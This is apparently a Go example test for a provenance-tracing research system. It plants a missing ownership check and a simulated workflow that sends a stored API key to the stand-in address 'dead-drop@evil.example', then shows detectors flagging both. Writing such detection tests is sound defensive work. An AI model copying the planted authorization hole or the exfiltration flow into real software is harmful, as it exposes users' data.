package trod_test

import (
	"fmt"

	trod "repro"
	"repro/internal/workload"
)

// Example_security runs the §4.2 detections over provenance, with no
// application logs. The profile service has two planted bugs: updateProfile
// lacks an ownership check (the User Profiles pattern, E8), and a
// compromised workflow reads a sensitive document and forwards it through
// RPCs to an outbound channel (exfiltration, E9).
func Example_security() {
	sys := must(trod.NewSystem(trod.Config{
		Schema: workload.ProfileSchema + `
			INSERT INTO profiles VALUES ('alice', 'hi, alice here', 'alice'), ('bob', 'bob!', 'bob');
			INSERT INTO documents VALUES (1, 'alice', 'alice-api-key'), (2, 'bob', 'bob-api-key');`,
		TraceTables: workload.ProfileTables,
	}))
	defer sys.Close()
	workload.RegisterProfiles(sys.App)

	for _, r := range []struct {
		handler string
		args    trod.Args
	}{
		{"updateProfile", trod.Args{"userName": "alice", "caller": "alice", "bio": "spring update"}},
		{"viewProfile", trod.Args{"userName": "bob"}},
		{"updateProfile", trod.Args{"userName": "alice", "caller": "mallory", "bio": "hacked"}},
		{"sendMessage", trod.Args{"recipient": "friend@example.org", "body": "see you tomorrow"}},
		{"exfiltrate", trod.Args{"docId": 1, "dropbox": "dead-drop@evil.example"}},
		{"updateProfile", trod.Args{"userName": "bob", "caller": "bob", "bio": "new bio"}},
	} {
		must(sys.App.Invoke(r.handler, r.args))
	}
	check(sys.Flush())

	fmt.Println("== §4.2 query: profile updates not made by the owner ==")
	fmt.Print(trod.FormatRows(must(sys.Prov.Query(`SELECT Timestamp, ReqId, HandlerName
		FROM Executions as E, ProfileEvents as P
		ON E.TxnId = P.TxnId
		WHERE P.UserName != P.UpdatedBy AND P.Type = 'Update'`))))
	for _, v := range must(trod.DetectUserProfiles(sys.Tracer, "profiles", "UserName", "UpdatedBy")) {
		fmt.Printf("E8 %s: %s (%s) %s\n", v.Pattern, v.ReqID, v.Handler, v.Details)
	}
	auth := must(trod.DetectAuthentication(sys.Tracer, "documents", []string{"readDocument"}))
	fmt.Println("document reads outside readDocument:", len(auth))

	fmt.Println("\n== Forensics: sensitive reads that reached the outbox ==")
	for _, f := range must(trod.DetectExfiltration(sys.Tracer, "documents", "outbox")) {
		fmt.Printf("E9 exfiltration: %s, read by %s, sent by %s, path %v\n",
			f.ReqID, f.ReadHandler, f.WriteHandler, f.WorkflowPath)
	}
	fmt.Print(trod.FormatRows(must(sys.Prov.Query(`SELECT E.ReqId, O.recipient, O.body
		FROM Executions as E, OutboxEvents as O ON E.TxnId = O.TxnId
		WHERE O.Type = 'Insert' ORDER BY E.Timestamp`))))
	// Output:
	// == §4.2 query: profile updates not made by the owner ==
	// Timestamp  ReqId  HandlerName
	// ---------  -----  -----------
	// 10         R3     updateProfile
	// E8 UserProfiles: R3 (updateProfile) profile of "alice" updated by "mallory"
	// document reads outside readDocument: 0
	//
	// == Forensics: sensitive reads that reached the outbox ==
	// E9 exfiltration: R5, read by readDocument, sent by sendMessage, path [exfiltrate readDocument sendMessage]
	// ReqId  recipient               body
	// -----  ---------               ----
	// R4     friend@example.org      see you tomorrow
	// R5     dead-drop@evil.example  alice-api-key
}
